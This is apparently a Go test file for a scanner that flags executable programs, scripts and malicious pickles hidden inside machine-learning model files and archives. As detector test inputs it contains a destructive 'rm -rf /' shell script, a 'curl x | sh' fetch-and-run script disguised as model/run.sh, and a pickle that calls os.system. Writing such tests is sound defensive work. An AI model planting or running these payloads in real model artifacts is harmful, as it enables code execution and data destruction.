package executable_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/modelverify/modelverify/pkg/scan"
	"github.com/modelverify/modelverify/pkg/scan/all"
	"github.com/modelverify/modelverify/pkg/scan/executable"
)

func scanBytes(t testing.TB, b []byte) scan.Target {
	t.Helper()
	sc := scan.MustNew(scan.Options{Formats: all.Formats()})
	return sc.ScanReaderAt(context.Background(), "x", bytes.NewReader(b), int64(len(b)))
}

func exeFindings(tg scan.Target) []scan.Finding {
	var out []scan.Finding
	for _, f := range tg.Findings {
		if f.RuleID == scan.RuleExecutable {
			out = append(out, f)
		}
	}
	return out
}

// goTestdata reads a binary that Go's own debug/* tests keep (real compiler
// output for each platform); the test skips when GOROOT has no sources.
func goTestdata(t *testing.T, rel string) []byte {
	t.Helper()
	root, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		t.Skipf("go env GOROOT: %v", err)
	}
	p := filepath.Join(strings.TrimSpace(string(root)), "src", rel)
	b, err := os.ReadFile(p)
	if err != nil {
		t.Skipf("no %s: %v", p, err)
	}
	if strings.HasSuffix(p, ".base64") {
		b, err = base64.StdEncoding.DecodeString(string(bytes.TrimSpace(b)))
		if err != nil {
			t.Fatal(err)
		}
	}
	return b
}

func TestRealBinariesAreReportedWithWhatTheyAre(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, file, kind, desc string
	}{
		{"the test binary itself", "", "", ""},
		{"a Windows executable", "debug/pe/testdata/gcc-amd64-mingw-exec", "pe", "x86-64"},
		{"a Mach-O executable", "debug/macho/testdata/gcc-amd64-darwin-exec.base64", "mach-o", "Mach-O 64-bit executable, x86-64"},
		{"a universal binary", "debug/macho/testdata/fat-gcc-386-amd64-darwin-exec.base64", "mach-o-universal", "2 architectures"},
		{"a Mach-O object", "debug/macho/testdata/clang-amd64-darwin.obj.base64", "mach-o", "object"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var b []byte
			if c.file == "" {
				if runtime.GOOS != "linux" {
					t.Skip("the test binary is ELF on linux only")
				}
				b, err = os.ReadFile(self)
				if err != nil {
					t.Fatal(err)
				}
				c.kind, c.desc = "elf", "ELF 64-bit"
			} else {
				b = goTestdata(t, c.file)
			}
			tg := scanBytes(t, b)
			fs := exeFindings(tg)
			if len(fs) != 1 || fs[0].Symbol != c.kind || fs[0].Severity != scan.SeverityCritical || !strings.Contains(fs[0].Message, c.desc) {
				t.Fatalf("findings %+v, want one critical %s saying %q", tg.Findings, c.kind, c.desc)
			}
			if tg.Verdict != scan.VerdictDangerous || tg.Format != c.kind {
				t.Fatalf("verdict %s format %s", tg.Verdict, tg.Format)
			}
		})
	}
}

func TestIdentifyHeaders(t *testing.T) {
	elf := make([]byte, 64)
	copy(elf, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(elf[16:], 3)
	binary.LittleEndian.PutUint16(elf[18:], 183)
	java := []byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61}
	cases := []struct {
		name string
		head []byte
		kind executable.Kind
		desc string
	}{
		{"an AArch64 shared library", elf, executable.KindELF, "ELF 64-bit little-endian shared object or position-independent executable, AArch64"},
		{"a llamafile", []byte("MZqFpD='\n\n\x00\x10\x00\xf8\x00\x00"), executable.KindAPE, "llamafile"},
		{"a Java class", java, executable.KindJava, "version 61"},
		{"a shell script through env", []byte("#!/usr/bin/env -S bash -e\necho hi\n"), executable.KindShebang, "script for bash"},
		{"a shell script", []byte("#!/bin/sh\nrm -rf /\n"), executable.KindShebang, "script for sh"},
		{"an MS-DOS stub", append([]byte("MZ"), make([]byte, 100)...), executable.KindMSDOS, "MS-DOS"},
		{"a hash line is not a shebang", []byte("# comment\n"), "", ""},
		{"a shebang of binary bytes is not a script", []byte("#!\x00\x01\x02"), "", ""},
		{"safetensors", []byte("\x10\x00\x00\x00\x00\x00\x00\x00{\"a\":1}"), "", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			k, d := executable.Identify(c.head)
			if k != c.kind || !strings.Contains(d, c.desc) {
				t.Fatalf("Identify = %q %q, want %q containing %q", k, d, c.kind, c.desc)
			}
		})
	}
}

func makeZip(t testing.TB, names []string, bodies [][]byte, prefix []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	buf.Write(prefix)
	zw := zip.NewWriter(&buf)
	zw.SetOffset(int64(len(prefix)))
	for i, n := range names {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: n, Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		w.Write(bodies[i])
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// evilPickle is protocol 2: GLOBAL os system, a string, TUPLE1, REDUCE, STOP.
var evilPickle = []byte("\x80\x02cos\nsystem\nX\x02\x00\x00\x00idq\x00\x85R.")

func TestProgramsInsideArtifactsAreFound(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	elf, err := os.ReadFile(self)
	if err != nil || !bytes.HasPrefix(elf, []byte("\x7fELF")) {
		t.Skip("test binary is not ELF")
	}
	elf = elf[:4096] // the head is what identifies it
	t.Run("an archive member that is a program", func(t *testing.T) {
		tg := scanBytes(t, makeZip(t, []string{"model/weights.bin", "model/run.sh"}, [][]byte{elf, []byte("#!/bin/sh\ncurl x | sh\n")}, nil))
		fs := exeFindings(tg)
		if len(fs) != 2 || fs[0].Member != "model/weights.bin" || fs[0].Severity != scan.SeverityCritical ||
			fs[1].Member != "model/run.sh" || fs[1].Severity != scan.SeverityHigh {
			t.Fatalf("findings %+v", tg.Findings)
		}
	})
	t.Run("a weight file whose head is a program", func(t *testing.T) {
		b := append(append([]byte{}, elf...), make([]byte, 1<<16)...)
		tg := scanBytes(t, b)
		if fs := exeFindings(tg); len(fs) != 1 || tg.Verdict != scan.VerdictDangerous {
			t.Fatalf("findings %+v", tg.Findings)
		}
	})
	t.Run("a llamafile's appended zip is scanned too", func(t *testing.T) {
		ape := append([]byte("MZqFpD='\n\n"), make([]byte, 2000)...)
		tg := scanBytes(t, makeZip(t, []string{"weights.gguf", "extra.pkl"}, [][]byte{[]byte("GGUF"), evilPickle}, ape))
		var sawAPE, sawPickle bool
		for _, f := range tg.Findings {
			sawAPE = sawAPE || f.RuleID == scan.RuleExecutable && f.Symbol == "ape"
			sawPickle = sawPickle || f.RuleID == scan.RuleDangerousGlobal && f.Member == "extra.pkl"
		}
		if !sawAPE || !sawPickle || tg.Format != "ape" {
			t.Fatalf("format %s findings %+v", tg.Format, tg.Findings)
		}
	})
}

func FuzzIdentify(f *testing.F) {
	f.Add([]byte("\x7fELF\x01\x02\x01"))
	f.Add([]byte("MZ"))
	f.Add([]byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2})
	f.Add([]byte{0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0})
	f.Add([]byte("#!/bin/sh\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if len(b) > scan.HeadSize {
			b = b[:scan.HeadSize]
		}
		executable.Identify(b)
		if executable.Format.Match(executable.Format{}, b, int64(len(b))) {
			scanBytes(t, b)
		}
	})
}
